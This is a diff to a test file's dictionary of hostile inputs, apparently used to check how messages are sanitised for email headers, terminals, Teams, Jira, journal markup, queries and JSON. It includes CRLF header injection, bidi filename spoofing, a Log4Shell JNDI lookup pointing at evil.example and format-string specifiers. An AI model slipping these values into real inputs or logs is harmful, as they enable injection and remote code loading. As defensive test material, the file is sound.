@@ -19,6 +19,7 @@ HOSTILE: dict[str, str] = {
     "headers": "x\r\nBcc: victim@evil.example\r\n\r\nbody", "controls": "a\x00b\x07c\x1b[31mred\x1b]8;;https://evil.example\x1b\\x\x7f",
     "directions": "\u202egnp.exe\u202c \u2066x\u2069 \u200bzero\ufeff", "lines": "a\u2028b\u2029c\x85d\x0be", "piled": "e" + "\u0301" * 40,
     "Teams": "<at>Everyone</at> &nbsp; <a href=\"https://evil.example\">x</a>", "Jira": "{code} {noformat} [~admin] [x|https://evil.example] !img.png! h1. x",
+    "a journal": "[code]<a href='https://evil.example'>x</a>[/code] [ CODE ]<b>x</b>[/CODE]",
     "a query": "x^active=true^ORcorrelation_idISNOTEMPTY\" OR project = X --", "JSON": '","text":"forged","x":"', "emoji": ":rotating_light: :white_check_mark:",
     "long": "A" * 20_000, "wide": "\U0001f525" * 3000, "a template": "{{ 7*7 }} ${jndi:ldap://evil.example/a} %s %n", "nothing": "", "blanks": " \t\n ",
 }  # fmt: skip
